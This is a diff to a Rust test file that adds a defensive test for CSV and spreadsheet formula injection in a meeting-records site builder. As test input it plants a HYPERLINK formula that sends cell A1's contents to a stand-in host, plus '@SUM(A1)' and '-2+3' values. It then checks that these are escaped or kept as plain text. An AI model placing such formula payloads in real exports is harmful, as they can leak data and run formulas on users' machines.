@@ -544,3 +544,33 @@ fn a_meeting_time_goes_into_the_calendar_and_beside_the_date() {
         );
     }
 }
+
+#[test]
+fn tracker_cells_a_spreadsheet_would_run_are_text_in_csv_and_in_the_workbook() {
+    let (_tmp, content) = temp_copy(&example_content());
+    let file = content.join("meetings/2021-05-26.md");
+    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"Click")"#;
+    let text = read(&file).replacen(
+        "owner: {en: CBSA, fr: ASFC}",
+        &format!("owner: {{en: '{formula}', fr: '@SUM(A1)'}}"),
+        1,
+    );
+    let text = text.replacen("en: Report on the port-of-entry pilot.", "en: \"-2+3 report\"", 1);
+    fs::write(&file, text).unwrap();
+    let out = content.parent().unwrap().join("out");
+    build_ok(&content, &out);
+    let csv = csv_rows(&out.join("data/actions.csv"));
+    let row = csv.iter().find(|r| r[0] == "A-2021-05-01").expect("the action");
+    assert_eq!(row[1..3], ["'-2+3 report".to_string(), format!("'{formula}")]);
+    let fr = csv_rows(&out.join("fr/data/actions.csv"));
+    assert_eq!(fr.iter().find(|r| r[0] == "A-2021-05-01").unwrap()[2], "'@SUM(A1)");
+    // The workbook holds them as strings, as written.
+    let mut book: Xlsx<_> = calamine::open_workbook(out.join("data/actions.xlsx")).unwrap();
+    let sheet = book.sheet_names()[0].clone();
+    let range = book.worksheet_range(&sheet).unwrap();
+    let x = range.rows().find(|r| r[0] == Data::String("A-2021-05-01".into())).unwrap();
+    assert_eq!(x[2], Data::String(formula.into()));
+    // Figures stay numbers in the metrics' value column.
+    let metrics = csv_rows(&out.join("data/metrics.csv"));
+    assert!(metrics[1..].iter().all(|r| r[6].parse::<f64>().is_ok()), "{metrics:?}");
+}
